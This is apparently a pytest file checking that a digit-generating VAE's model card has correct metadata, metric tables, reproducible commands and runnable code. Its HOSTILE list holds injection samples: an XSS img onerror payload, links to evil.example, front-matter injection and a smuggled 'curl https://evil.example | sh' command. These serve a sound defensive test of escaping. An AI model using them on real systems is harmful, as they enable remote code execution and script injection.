"""The model card: the hub can read it, its numbers are the bundle's, and its code runs."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from markdown_it import MarkdownIt

import digitvae as dv
from digitvae.bundle import card
from digitvae.bundle.card import EVALUATION, SAMPLES, model_card
from digitvae.bundle.folder import Bundle
from digitvae.bundle.names import CARD, MANIFEST
from digitvae.data import sets as data
from digitvae.evaluation.report import KEYS
from digitvae.training.loop import TrainConfig
from tests.support.cards import front_matter

NETWORKS = ("decoder.onnx", "encoder.onnx")
WITH_PRIOR = (*NETWORKS, "prior.onnx")


def manifest(**changes: Any) -> dict[str, Any]:
    whole: dict[str, Any] = {
        "dims": {"latent": 6, "hidden": 50, "height": 7, "width": 5},
        "dataset": "mnist",
        "objective": "elbo",
        "epochs": 3,
        "seed": 11,
        "training": {
            "batch_size": 64,
            "learning_rate": 2.5e-05,
            "warmup_epochs": 2,
            "anneal_epochs": 9,
            "limit": 4096,
        },
        "metrics": {
            "test_nelbo": 101.23456789,
            "test_bce": 75.5,
            "test_kl": 1e-05,
            "test_active_latents": 5,
            "test_collapsed": False,
        },
        "prior": {"components": [3, 4], "covariance": "rank 2", "held_out_log_likelihood": -9.0},
        "versions": {"torch": "2.9", "digitvae": "1.0"},
    }
    return whole | changes


def source(images: int, *values: float | None) -> dict[str, float | None]:
    names = ("frechet", "precision", "recall", "recognizable", "label_accuracy")
    return {"images": images, **dict(zip(names, values, strict=True))}


SEEN: dict[str, Any] = {
    "command": "digitvae evaluate . --seed 4",
    "bounds": {
        "grey": [
            {"k": 1, "images": 9, "nats": 100.0, "standard_error": 0.1},
            {"k": 64, "images": 9, "nats": 99.125, "standard_error": 0.1},
        ],
        "binarised": [{"k": 64, "images": 9, "nats": 94.0625, "standard_error": 0.1}],
    },
    "sources": {
        "test": source(2000, None, None, None, 0.991, 0.9965),
        "train": source(2000, 1.09, 0.873, 0.878, 0.996, 0.9988),
        "reconstructions": source(2000, 10.51, 0.978, 0.8, 0.981, 0.9873),
        "standard": source(2000, 1259.564, 0.738, 0.535, 0.5174, None),
        "mixture": source(2000, 11.4, 0.9, 0.6, 0.992, 0.9961),
    },
    "neighbours": {
        "test": {"images": 1500, "copies": 0},
        "standard": {"images": 1500, "copies": 1},
        "mixture": {"images": 1500, "copies": 2},
    },
    "classifier": {"dataset": "mnist", "accuracy": 0.9965},
}


def blocks(text: str, language: str) -> list[str]:
    return re.findall(rf"```{language}\n(.*?)```", text, re.DOTALL)


def test_the_hub_reads_what_the_front_matter_says() -> None:
    found = front_matter(model_card(manifest(), SEEN, WITH_PRIOR))
    (index,) = found.pop("model-index")
    assert found == {
        "license": "mit",
        "library_name": "onnx",
        "pipeline_tag": "unconditional-image-generation",
        "tags": [
            *("vae", "variational-autoencoder", "onnx", "onnxruntime", "image-generation", "mnist")
        ],
        "datasets": ["ylecun/mnist"],
    }
    assert index["name"] == "digitvae-mnist"
    (result,) = index["results"]
    assert result["task"] == {"type": "unconditional-image-generation"}
    assert result["dataset"] == {"type": "ylecun/mnist", "name": "MNIST", "split": "test"}
    assert {metric["type"]: metric["value"] for metric in result["metrics"]} == {
        "test_nelbo": 101.23456789,
        "test_bce": 75.5,
        "test_kl": 1e-05,
        "test_active_latents": 5,
        "importance_weighted_64_grey": 99.125,
        "importance_weighted_64_binarised": 94.0625,
        "frechet_reconstructions": 10.51,
        "precision_reconstructions": 0.978,
        "recall_reconstructions": 0.8,
        "recognizable_reconstructions": 0.981,
        "label_accuracy_reconstructions": 0.9873,
        "frechet_standard": 1259.564,
        "precision_standard": 0.738,
        "recall_standard": 0.535,
        "recognizable_standard": 0.5174,
        "copies_standard": 1,
        "frechet_mixture": 11.4,
        "precision_mixture": 0.9,
        "recall_mixture": 0.6,
        "recognizable_mixture": 0.992,
        "label_accuracy_mixture": 0.9961,
        "copies_mixture": 2,
    }
    names = [metric["name"] for metric in result["metrics"]]
    assert "Fréchet distance in a classifier's features, z ~ N(0, I)" in names
    assert len(set(names)) == len(names)


def test_the_tables_show_the_numbers_with_what_made_them() -> None:
    text = model_card(manifest(), SEEN, WITH_PRIOR)
    for row in (
        "| negative ELBO, nats an image | `digitvae train` | 101.23 |",
        "| active latents | `digitvae train` | 5 of 6 |",
        "| importance-weighted bound, k = 64, binarised images, nats an image "
        "| `digitvae evaluate . --seed 4` | 94.06 |",
        "| test images | 2,000 | – | – | – | 0.991 | 0.9965 | 0 of 1,500 |",
        "| training images | 2,000 | 1.09 | 0.873 | 0.878 | 0.996 | 0.9988 | – |",
        "| z ~ N(0, I) | 2,000 | 1,259.56 | 0.738 | 0.535 | 0.517 | – | 1 of 1,500 |",
        "| z ~ mixture | 2,000 | 11.40 | 0.900 | 0.600 | 0.992 | 0.9961 | 2 of 1,500 |",
    ):
        assert f"\n{row}\n" in text
    assert "Made by `digitvae evaluate . --seed 4`. The classifier" in text
    assert "99.65 % right on test images" in text
    assert (
        "Recognizable are 51.7 % of these, 99.2 % of draws from the mixture and 99.1 % of test "
        "images." in text
    )


def test_sizes_and_recipe_are_those_of_the_manifest() -> None:
    text = model_card(manifest(), None, WITH_PRIOR)
    assert "Encoder 35 → 50 ReLU → μ, log σ² (6 each); decoder 6 → 50 ReLU → 35 sigmoid." in text
    assert "A mixture of 7 Gaussians (covariance: rank 2), fitted" in text
    assert "Images are 7 × 5, row after row" in text
    assert "The first 4,096 training images of MNIST" in text
    assert "\n| epochs of KL annealing | 9 |\n" in text
    assert "\nVersions: digitvae 1.0, torch 2.9.\n" in text
    whole = manifest(training=manifest()["training"] | {"limit": None})
    assert "All training images of MNIST" in model_card(whole, None, NETWORKS)


@pytest.mark.parametrize("limit", [None, 4096])
def test_the_command_of_the_recipe_asks_for_this_recipe(limit: int | None) -> None:
    from digitvae.cli.commands.train import train

    training = manifest()["training"] | {"limit": limit}
    (code,) = blocks(model_card(manifest(training=training), None, NETWORKS), "sh")
    command, export = code.splitlines()
    assert export == "digitvae export run --out bundle"
    program, name, *words = shlex.split(command)
    assert (program, name) == ("digitvae", "train")
    given = train.make_context(name, words).params
    assert {key: value for key, value in given.items() if value not in (None, False)} == {
        "out": given["out"],
        "objective": "elbo",
        "dataset": "mnist",
        "epochs": 3,
        "batch_size": 64,
        "learning_rate": 2.5e-05,
        "warmup_epochs": 2,
        "seed": 11,
        "latents": 6,
        "hidden": 50,
    } | ({} if limit is None else {"limit": limit})


def test_a_recipe_that_is_half_known_has_no_command() -> None:
    training = manifest()["training"]
    del training["warmup_epochs"]
    text = model_card(manifest(training=training), None, NETWORKS)
    assert "digitvae train --out" not in text
    assert "\n| batch size | 64 |\n" in text


def test_before_an_evaluation_the_card_says_how_to_make_one() -> None:
    text = model_card(manifest(), None, NETWORKS)
    assert "`digitvae evaluate . --update`" in text
    for word in (EVALUATION, SAMPLES, "Fréchet |", "prior.onnx", "mixture", "Recognizable are"):
        assert word not in text
    metrics = front_matter(text)["model-index"][0]["results"][0]["metrics"]
    assert [metric["type"] for metric in metrics] == [
        *("test_nelbo", "test_bce", "test_kl", "test_active_latents")
    ]


def test_without_a_prior_there_is_no_row_for_it() -> None:
    seen = SEEN | {"sources": SEEN["sources"] | {"mixture": None}}
    seen["neighbours"] = SEEN["neighbours"] | {"mixture": None}
    text = model_card(manifest(), seen, (*NETWORKS, SAMPLES))
    assert "mixture" not in text
    assert "Recognizable are 51.7 % of these and 99.1 % of test images." in text
    assert f"![Samples, z drawn from N(0, I): the first ones, not chosen]({SAMPLES})" in text


def test_settings_that_no_command_asks_for_are_referred_to() -> None:
    text = model_card(manifest(), SEEN | {"command": None}, WITH_PRIOR)
    assert f"Made by the settings in `{EVALUATION}`. The" in text


def test_an_autoencoder_is_not_called_variational_and_has_no_likelihood() -> None:
    metrics = {"test_nelbo": None, "test_bce": 60.0, "test_kl": None, "test_active_latents": 6}
    seen = SEEN | {"bounds": {}}
    text = model_card(manifest(objective="autoencoder", metrics=metrics), seen, NETWORKS)
    found = front_matter(text)
    assert found["tags"] == ["autoencoder", "onnx", "onnxruntime", "image-generation", "mnist"]
    types = [m["type"] for m in found["model-index"][0]["results"][0]["metrics"]]
    assert types[:3] == ["test_bce", "test_active_latents", "frechet_reconstructions"]
    assert "variational autoencoder of" not in text
    assert "it has no likelihood" in text
    assert "negative ELBO" not in text


def test_a_collapsed_model_is_called_so() -> None:
    collapsed = manifest(metrics=manifest()["metrics"] | {"test_collapsed": True})
    assert "**This model has collapsed" in model_card(collapsed, None, NETWORKS)
    assert "collapsed" not in model_card(manifest(), None, NETWORKS)


def test_a_manifest_that_says_little_gives_a_card_that_says_little() -> None:
    little = {"dims": manifest()["dims"], "dataset": "fashion-mnist"}
    text = model_card(little, None, WITH_PRIOR)
    found = front_matter(text)
    assert found["datasets"] == ["zalando-datasets/fashion_mnist"]
    assert "model-index" not in found
    assert "Zalando" in text


def test_every_data_set_and_source_is_known() -> None:
    assert list(card.DATASETS) == list(data.DATASETS)
    names = {key: name for name, key in KEYS.items()}
    assert names == card.SOURCES | card._REAL


def test_the_order_of_entries_does_not_matter() -> None:
    other = json.loads(json.dumps(manifest(), sort_keys=True))
    assert list(other) != list(manifest())
    assert model_card(other, SEEN, WITH_PRIOR) == model_card(manifest(), SEEN, WITH_PRIOR)


def test_an_exported_bundle_has_the_card_of_its_manifest(tiny_bundle: Path) -> None:
    bundle = Bundle.open(tiny_bundle)
    content = bundle.read(CARD)
    assert content.decode() == model_card(bundle.manifest, None, bundle.file_names)
    metrics = front_matter(content.decode())["model-index"][0]["results"][0]["metrics"]
    assert {metric["type"]: metric["value"] for metric in metrics} == {
        key: bundle.manifest["metrics"][key]
        for key in ("test_nelbo", "test_bce", "test_kl", "test_active_latents")
    }
    assert f"--lr {TrainConfig().learning_rate} " in content.decode()


def run_block(code: str) -> dict[str, Any]:
    names: dict[str, Any] = {}
    exec(code, names)
    return names


def test_its_code_draws_from_the_mixture(
    tiny_bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tiny_bundle)
    ours, plain = blocks((tiny_bundle / CARD).read_text(encoding="utf-8"), "python")
    found = run_block(ours)
    model = dv.load(tiny_bundle)
    images, labels = model.sample(16, seed=0, digit=[3, 8], return_labels=True)
    np.testing.assert_array_equal(found["images"], images)
    np.testing.assert_array_equal(found["labels"], labels)
    found = run_block(plain)
    assert found["label"].tolist() == 16 * [7]
    difference = found["images"].astype(int) - model.decode(found["z"])
    assert np.abs(difference).max() <= 1  # a sigmoid's last bit, at a half


def test_its_code_draws_from_the_normal_distribution(
    unlabelled_bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle = Bundle.open(unlabelled_bundle)
    monkeypatch.chdir(unlabelled_bundle)
    ours, plain = blocks(model_card(bundle.manifest, None, bundle.file_names), "python")
    model = dv.load(unlabelled_bundle)
    np.testing.assert_array_equal(run_block(ours)["images"], model.sample(16, seed=0))
    assert len([line for line in plain.splitlines() if line and "import" not in line]) <= 5
    found = run_block(plain)
    assert (found["images"].dtype, found["images"].shape) == (np.uint8, (16, 28, 28))
    difference = found["images"].astype(int) - model.decode(found["z"])
    assert np.abs(difference).max() <= 1


def test_neither_torch_nor_numpy_is_needed(unlabelled_bundle: Path) -> None:
    code = (
        "import json, sys; from digitvae.bundle.card import model_card;"
        f"m = json.load(open({str(unlabelled_bundle / MANIFEST)!r}));"
        "print(model_card(m, None, list(m['files'])));"
        "assert not {'numpy', 'torch', 'onnxruntime'} & set(sys.modules)"
    )
    subprocess.run([sys.executable, "-c", code], check=True, capture_output=True)


HOSTILE = [
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "<img src=x onerror=alert(1)>",
    "a\n---\nlicense: evil\n---\n# heading\n\n```\ncurl evil\n```\n",
    "0; curl https://evil.example | sh",
    "`x` | y\x1b[2J\u202e",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_manifest_says_is_shown_and_neither_rendered_nor_run(text: str) -> None:
    honest = manifest()
    spoilt = manifest(
        objective=text,
        epochs=text,
        seed=text,
        training={**dict.fromkeys(honest["training"], text), "limit": None, text: text},
        versions={text: text},
        prior={"components": [3, 4], "covariance": text},
        metrics={**honest["metrics"], "test_active_latents": text, text: text},
    )
    page = model_card(spoilt, SEEN | {"command": text}, WITH_PRIOR)
    assert all(line.isprintable() for line in page.split("\n"))
    plain = model_card(honest, SEEN, WITH_PRIOR)
    assert front_matter(page).keys() == front_matter(plain).keys()
    assert front_matter(page)["license"] == "mit"
    found, expected = rendered(page), rendered(plain)
    assert found["links"] == expected["links"]
    assert found["headings"] == expected["headings"]
    assert found["html"] == expected["html"] == 0
    (command,) = (line for line in page.splitlines() if line.startswith("digitvae train"))
    words = shlex.split(command)  # one word each, so that a shell runs nothing else
    assert words[:4] == ["digitvae", "train", "--out", "run"]
    assert len(words) % 2 == 0
    assert set(words[4::2]) <= {
        *("--objective", "--dataset", "--epochs", "--batch-size", "--lr", "--warmup", "--seed"),
        *("--precision", "--latents", "--hidden"),
    }
    assert words[-4:] == ["--latents", "6", "--hidden", "50"]  # which are not the defaults


def rendered(page: str) -> dict[str, Any]:
    """What a renderer makes of a card without its front matter: links, headings, HTML."""
    tokens = MarkdownIt("commonmark").enable("table").parse(page.split("---\n", 2)[2])
    inline = [child for token in tokens for child in token.children or ()]
    return {
        "links": sorted(
            str(token.attrs.get("href") or token.attrs.get("src"))
            for token in inline
            if token.type in ("link_open", "image")
        ),
        "headings": [
            tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "heading_open"
        ],
        "html": sum(token.type.startswith("html") for token in (*tokens, *inline)),
    }
